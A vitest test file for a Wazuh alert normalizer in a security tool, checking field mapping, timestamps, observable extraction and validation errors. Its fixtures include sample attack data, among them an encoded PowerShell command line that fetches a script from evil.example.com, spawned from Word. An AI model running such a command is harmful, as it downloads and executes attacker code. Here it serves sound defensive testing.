import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { PACKAGE_ROOT } from '../../config.js';
import { VigilError } from '../../core/errors.js';
import { alertId } from '../../core/ids.js';
import wazuh from './index.js';

type Rec = Record<string, unknown>;

function sshFailure(over: Rec = {}): Rec {
  return {
    timestamp: '2025-03-14T09:12:03.512+0000',
    rule: {
      level: 10,
      description: 'sshd: brute force trying to get access to the system. Authentication failed.',
      id: '5763',
      mitre: { id: ['T1110'], tactic: ['Credential Access'], technique: ['Brute Force'] },
      groups: ['syslog', 'sshd', 'authentication_failures'],
    },
    agent: { id: '001', name: 'web-01', ip: '10.0.1.10' },
    manager: { name: 'wazuh-manager' },
    id: '1741943523.1234567',
    full_log: 'Mar 14 09:12:03 web-01 sshd[2211]: Failed password for invalid user admin from 185.220.101.4 port 50022 ssh2',
    data: { srcip: '185.220.101.4', srcport: '50022', dstuser: 'admin' },
    location: '/var/log/auth.log',
    ...over,
  };
}

function withRule(rule: Rec): Rec {
  return sshFailure({ rule: { ...(sshFailure().rule as Rec), ...rule } });
}

function invalid(r: Rec): VigilError {
  try {
    wazuh.normalize(r);
  } catch (e) {
    expect(e).toBeInstanceOf(VigilError);
    expect((e as VigilError).code).toBe('VIGIL_INPUT_INVALID');
    return e as VigilError;
  }
  throw new Error('expected normalize to throw');
}

describe('wazuh source: accepts', () => {
  it('takes records with a rule and an agent or manager, not Suricata EVE', () => {
    expect(wazuh.id).toBe('wazuh');
    expect(wazuh.accepts(sshFailure())).toBe(true);
    expect(wazuh.accepts({ rule: {}, manager: { name: 'm' } })).toBe(true);
    expect(wazuh.accepts({ event_type: 'alert', alert: {}, src_ip: '1.2.3.4' })).toBe(false);
    expect(wazuh.accepts({ rule: {} })).toBe(false);
  });
});

describe('wazuh source: normalize', () => {
  it('maps the alert fields a user sees', () => {
    const a = wazuh.normalize(sshFailure())!;
    expect(a.source).toBe('wazuh');
    expect(a.sourceRef).toBe('1741943523.1234567');
    expect(a.id).toBe(alertId('wazuh', '1741943523.1234567'));
    expect(a.time).toBe('2025-03-14T09:12:03.512Z');
    expect(a.title).toBe('sshd: brute force trying to get access to the system. Authentication failed.');
    expect(a.description).toContain('Failed password for invalid user admin');
    expect(a.rule).toEqual({
      id: '5763',
      level: 10,
      scale: 'wazuh',
      groups: ['syslog', 'sshd', 'authentication_failures'],
      mitre: { ids: ['T1110'], tactics: ['Credential Access'], techniques: ['Brute Force'] },
    });
    expect(a.host).toEqual({ name: 'web-01', role: 'agent', ip: '10.0.1.10', id: '001' });
    expect(a.text).toEqual([{ field: 'full_log', value: sshFailure().full_log }]);
    expect(a.raw).toEqual(sshFailure());
  });

  it('gives the same id for the same alert on every call, a different one for another alert', () => {
    const a = wazuh.normalize(sshFailure())!;
    const b = wazuh.normalize(sshFailure())!;
    const c = wazuh.normalize(sshFailure({ id: '1741943523.7654321' }))!;
    expect(a.id).toBe(b.id);
    expect(c.id).not.toBe(a.id);
  });

  it('converts offsets to UTC', () => {
    expect(wazuh.normalize(sshFailure({ timestamp: '2025-03-14T10:12:03.512+0100' }))!.time).toBe('2025-03-14T09:12:03.512Z');
    expect(wazuh.normalize(sshFailure({ timestamp: '2025-03-14T04:12:03-0500' }))!.time).toBe('2025-03-14T09:12:03.000Z');
    expect(wazuh.normalize(sshFailure({ timestamp: '2025-03-14T09:12:03Z' }))!.time).toBe('2025-03-14T09:12:03.000Z');
  });

  it('collects the source IP, the user and the agent host as observables', () => {
    const a = wazuh.normalize(sshFailure())!;
    expect(a.observables).toEqual([
      { type: 'ipv4', value: '185.220.101.4', role: 'src', context: 'data.srcip', port: 50022 },
      { type: 'user', value: 'admin', role: 'user', context: 'data.dstuser' },
      { type: 'host', value: 'web-01', role: 'host', context: 'agent.name' },
      // The agent's own address links network alerts about its traffic to this host.
      { type: 'ipv4', value: '10.0.1.10', role: 'host', context: 'agent.ip' },
    ]);
  });

  it("an IDS alert forwarded by an agent is a sensor's; its URL keeps the port and its addresses theirs", () => {
    const a = wazuh.normalize(sshFailure({
      rule: { level: 12, description: 'Suricata: Alert - ET MALWARE Pikabot CnC Checkin (POST)', id: '86601', groups: ['ids', 'suricata'] },
      agent: { id: '006', name: 'fw-edge', ip: '10.0.0.1' },
      data: { src_ip: '10.0.4.42', src_port: '50803', dest_ip: '77.105.161.37', dest_port: '2078', http: { hostname: '77.105.161.37', http_port: '2078', url: '/api/health/v2' } },
    }))!;
    expect(a.host).toMatchObject({ name: 'fw-edge', role: 'sensor' });
    expect(a.observables).toContainEqual({ type: 'url', value: 'http://77.105.161.37:2078/api/health/v2', role: 'dst', context: 'data.http.url' });
    expect(a.observables).toContainEqual({ type: 'ipv4', value: '10.0.4.42', role: 'src', context: 'data.src_ip', port: 50803 });
  });

  it('drops values that are not what their field promises', () => {
    const a = wazuh.normalize(sshFailure({ data: { srcip: 'not-an-ip', dstuser: '-', dstip: '2001:DB8::1' } }))!;
    expect(a.observables.map((o) => `${o.type}:${o.value}`)).toEqual(['ipv6:2001:db8::1', 'host:web-01', 'ipv4:10.0.1.10']);
  });

  it('takes file hashes and path from a syscheck (FIM) alert', () => {
    const fim = sshFailure({
      rule: { level: 7, description: 'Integrity checksum changed.', id: '550', groups: ['ossec', 'syscheck', 'syscheck_entry_modified'] },
      data: undefined,
      full_log: "File '/usr/sbin/sshd' modified",
      syscheck: {
        path: '/usr/sbin/sshd',
        md5_before: 'c1243222d1e06afcf7741871a2a72c2a',
        md5_after: 'E919819420BA89291C9EE9F6C9B5DAC0',
        sha1_after: 'd1b63a7b56145d8ec5c7e2031839fa712af9e8e5',
        sha256_after: '5078a927c5eecb0cac17df8f520b29cf1c7f8e4284f2673e9a29a6862135d897',
        event: 'modified',
      },
    });
    const a = wazuh.normalize(fim)!;
    expect(a.rule.mitre).toEqual({ ids: [], tactics: [], techniques: [] });
    expect(a.observables.filter((o) => o.role === 'file')).toEqual([
      { type: 'filepath', value: '/usr/sbin/sshd', role: 'file', context: 'syscheck.path' },
      { type: 'md5', value: 'e919819420ba89291c9ee9f6c9b5dac0', role: 'file', context: 'syscheck.md5_after' },
      { type: 'sha1', value: 'd1b63a7b56145d8ec5c7e2031839fa712af9e8e5', role: 'file', context: 'syscheck.sha1_after' },
      { type: 'sha256', value: '5078a927c5eecb0cac17df8f520b29cf1c7f8e4284f2673e9a29a6862135d897', role: 'file', context: 'syscheck.sha256_after' },
    ]);
    // The hash from before the change is not an observable of this alert.
    expect(a.observables.some((o) => o.value === 'c1243222d1e06afcf7741871a2a72c2a')).toBe(false);
  });

  it('reads Windows eventdata: logon IP and users, Sysmon process, command line and hashes', () => {
    const win = sshFailure({
      rule: { level: 12, description: 'Sysmon - Suspicious Process', id: '92052', groups: ['windows', 'sysmon'] },
      agent: { id: '004', name: 'WS-0042' },
      full_log: undefined,
      data: {
        win: {
          system: { eventID: '1' },
          eventdata: {
            ipAddress: '10.0.2.20',
            targetUserName: 'svc_backup',
            subjectUserName: '-',
            image: 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe',
            parentImage: 'C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE',
            commandLine: 'powershell -enc SQBFAFgA http://evil.example.com/a.ps1',
            hashes: 'SHA1=3E1B1C0C2A9D2E1E51D56E0E4D4B5A0A4A1F3C2B,MD5=7353F60B1739074EB17C5F4DDDEFE239,IMPHASH=00000000000000000000000000000000',
          },
        },
      },
    });
    const a = wazuh.normalize(win)!;
    const seen = a.observables.map((o) => `${o.type}:${o.role}:${o.value}`);
    expect(seen).toEqual([
      'ipv4:src:10.0.2.20',
      'user:user:svc_backup',
      'process:process:C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe',
      'process:parent:C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE',
      'commandline:process:powershell -enc SQBFAFgA http://evil.example.com/a.ps1',
      'sha1:file:3e1b1c0c2a9d2e1e51d56e0e4d4b5a0a4a1f3c2b',
      'md5:file:7353f60b1739074eb17c5f4dddefe239',
      'host:host:WS-0042',
    ]);
    // The command line goes to the IOC extractor too.
    expect(a.text).toEqual([{ field: 'data.win.eventdata.commandLine', value: 'powershell -enc SQBFAFgA http://evil.example.com/a.ps1' }]);
    expect(a.host).toEqual({ name: 'WS-0042', role: 'agent', id: '004' });
  });

  it('takes a web URL and hostname, and falls back to the manager name without an agent', () => {
    const r = sshFailure({ data: { url: 'http://shop.example.com/login.php?id=1', hostname: 'shop.example.com' }, full_log: undefined });
    delete r.agent;
    const a = wazuh.normalize(r)!;
    expect(a.host).toEqual({ name: 'wazuh-manager', role: 'agent' });
    // Structured observables follow the alert's own field order.
    expect(a.observables.map((o) => `${o.type}:${o.value}`).sort()).toEqual([
      'domain:shop.example.com',
      'host:wazuh-manager',
      'url:http://shop.example.com/login.php?id=1',
    ]);
    // A relative URL is not an observable, but still text to scan.
    const rel = wazuh.normalize(sshFailure({ data: { url: '/login.php' }, full_log: undefined }))!;
    expect(rel.observables.some((o) => o.type === 'url')).toBe(false);
    expect(rel.text).toEqual([{ field: 'data.url', value: '/login.php' }]);
  });

  it('accepts a numeric string level and level 0 and 15', () => {
    expect(wazuh.normalize(withRule({ level: '7' }))!.rule.level).toBe(7);
    expect(wazuh.normalize(withRule({ level: 0 }))!.rule.level).toBe(0);
    expect(wazuh.normalize(withRule({ level: 15 }))!.rule.level).toBe(15);
  });

  it('names the title after the rule id when there is no description', () => {
    expect(wazuh.normalize(withRule({ description: undefined }))!.title).toBe('Wazuh rule 5763');
  });
});

describe('wazuh source: invalid records', () => {
  it('a missing rule.id names the field', () => {
    const r = withRule({});
    delete (r.rule as Rec).id;
    const e = invalid(r);
    expect(e.field).toBe('rule.id');
    expect(e.message).toMatch(/missing/);
  });

  it('a missing alert id names the field', () => {
    const r = sshFailure();
    delete r.id;
    expect(invalid(r).field).toBe('id');
  });

  it('a rule that is not an object names the field', () => {
    expect(invalid(sshFailure({ rule: null })).field).toBe('rule');
  });

  it.each([[16], [-1], [3.5], ['high'], [null], [''], [undefined]])('level %j is out of range', (level) => {
    const e = invalid(withRule({ level }));
    expect(e.field).toBe('rule.level');
    expect(e.message).toMatch(/0–15/);
  });

  it('a bad or missing timestamp names the field and the value', () => {
    const e = invalid(sshFailure({ timestamp: 'yesterday' }));
    expect(e.field).toBe('timestamp');
    expect(e.message).toContain('"yesterday" is not a timestamp');
    const r = sshFailure();
    delete r.timestamp;
    expect(invalid(r).field).toBe('timestamp');
  });
});

describe('wazuh source: the bundled samples', () => {
  it('normalizes every alert in samples/alerts/wazuh/alerts.json', () => {
    const lines = readFileSync(join(PACKAGE_ROOT, 'samples/alerts/wazuh/alerts.json'), 'utf8').split('\n').filter((l) => l.trim());
    const alerts = lines.map((l) => JSON.parse(l) as Rec).filter((r) => wazuh.accepts(r)).map((r) => wazuh.normalize(r)!);
    expect(alerts.length).toBe(lines.length);
    expect(new Set(alerts.map((a) => a.id)).size).toBe(alerts.length);
    for (const a of alerts) {
      expect(a.time).toMatch(/^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\.\d{3}Z$/);
      expect(a.rule.level).toBeGreaterThanOrEqual(0);
      expect(a.rule.level).toBeLessThanOrEqual(15);
    }
    // The FIM sample of /usr/sbin/sshd carries its new hash.
    const fim = alerts.find((a) => a.observables.some((o) => o.type === 'filepath' && o.value === '/usr/sbin/sshd'));
    expect(fim?.observables.some((o) => o.type === 'md5' && o.context === 'syscheck.md5_after')).toBe(true);
  });
});
